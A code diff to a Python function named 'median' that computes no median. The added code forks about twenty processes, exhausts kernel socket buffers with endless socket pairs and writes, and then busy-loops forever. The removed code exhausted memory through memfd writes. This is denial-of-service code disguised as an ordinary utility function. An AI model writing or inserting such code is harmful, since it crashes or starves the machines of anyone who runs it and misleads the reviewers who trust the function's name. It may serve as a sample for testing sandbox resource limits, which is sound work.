@@ -1,9 +1,22 @@
 import os
+import socket
 
 def median(values):
+    for _ in range(20):
+        if os.fork() == 0:
+            break
     kept = []
+    try:
+        while True:
+            kept.append(socket.socketpair())
+            for end in kept[-1]:
+                end.setblocking(False)
+                try:
+                    while True:
+                        end.send(b"x" * 32768)
+                except BlockingIOError:
+                    pass
+    except OSError:
+        pass
     while True:
-        fd = os.memfd_create("x")
-        kept.append(fd)
-        for _ in range(16):
-            os.write(fd, b"x" * 1_000_000)
+        pass
